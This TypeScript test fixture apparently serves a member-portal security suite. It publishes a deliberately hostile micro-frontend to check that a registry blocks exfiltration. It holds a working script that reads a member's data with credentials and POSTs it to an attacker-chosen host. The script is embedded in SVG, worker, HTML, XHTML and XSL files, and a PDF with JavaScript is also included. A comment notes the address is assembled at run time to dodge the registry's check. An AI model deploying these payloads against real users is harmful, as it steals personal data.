import { CONTRACT_VERSION, type RemoteManifest } from '@member-portal/shared-kernel/contract';
import { exfiltrate } from './exfiltrate.ts';
import { type ReleasedFile, release } from './releases.ts';

export const HOSTILE = 'mfe-hostile';

const manifest: RemoteManifest = {
  id: HOSTILE,
  contractVersion: CONTRACT_VERSION,
  routes: [{ id: 'hostile', path: 'hostile', access: 'public', titleKey: 'title', surface: 'page' }],
  navigation: [],
  slots: [],
  panels: [],
  texts: { fr: { title: 'Hostile' }, en: { title: 'Hostile' } },
};

/**
 * Reads data that a member sees, and sends it away, from the place where it runs. The address is put together at run time:
 * the registry refuses a script that names it.
 */
const thief = (evil: string) => `
(async () => {
  const say = globalThis.postMessage && !globalThis.document ? (word) => postMessage(word) : () => {};
  const said = await fetch('/api/all-info', { credentials: 'include' }).then((answer) => answer.text(), String);
  await fetch([${JSON.stringify(evil)}, 'stolen'].join('/'), { method: 'POST', mode: 'no-cors', body: said })
    .then(() => say('sent'), () => say('kept'));
})();`;

const text = (path: string, content: string): ReleasedFile => ({ path, bytes: Buffer.from(content) });

/** Files that try to run code when their address is opened. */
export const documents = (evil: string): Record<'picture' | 'worker', ReleasedFile> => ({
  picture: text(
    'picture.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="document.title='ran'">
<rect width="8" height="8" fill="red"/><script><![CDATA[document.title = 'ran';${thief(evil)}]]></script></svg>`,
  ),
  worker: text('worker.js', thief(evil)),
});

/** Files that every registry refuses. Each would run a script if it were served. */
export const refusedFiles = (evil: string): ReleasedFile[] => [
  text('page.html', `<script>${thief(evil)}</script>`),
  text('page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${thief(evil)}</script></html>`),
  text('page.xml', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><page/>'),
  text(
    'style.xsl',
    `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<html><script>${thief(evil)}</script></html></xsl:template></xsl:stylesheet>`,
  ),
  text('paper.pdf', '%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  { path: 'code.wasm', bytes: Buffer.from('0061736d01000000', 'hex') },
  text('manifest.webmanifest', '{}'),
  text('page', `<script>${thief(evil)}</script>`),
];

/**
 * Publishes a version whose page /hostile tries every way to send data out, and stores the outcomes in
 * `window.exfiltrationOutcomes`.
 * Throws with the reasons of a refusal.
 */
export async function publishHostile(
  version: string,
  evil: string,
  more: readonly ReleasedFile[] = [],
): Promise<void> {
  const container = `${HOSTILE}_${version}`.replaceAll(/[^0-9A-Za-z]/g, '_');
  const base = `/artifacts/${HOSTILE}/${version}/`;
  const code = `var ${container} = (() => {
  const exfiltrate = ${exfiltrate.toString()};
  const Hostile = () => {
    window.exfiltrationOutcomes ??= exfiltrate(${JSON.stringify({ evil, base })});
    return 'Page hostile';
  };
  const module = {
    contract: '${CONTRACT_VERSION}',
    pages: () => ({ hostile: async () => ({ default: Hostile }) }),
    widgets: () => ({}),
  };
  return { init() {}, get: async () => () => ({ default: module }) };
})();\n`;
  const entry = 'remoteEntry.0a1b2c3d4e.js';
  await release(
    {
      id: HOSTILE,
      version,
      container,
      entry,
      kernelRange: '*',
      kernelExports: {},
      preload: {},
      manifest,
    },
    [text(entry, code), ...Object.values(documents(evil)), ...more],
  );
}
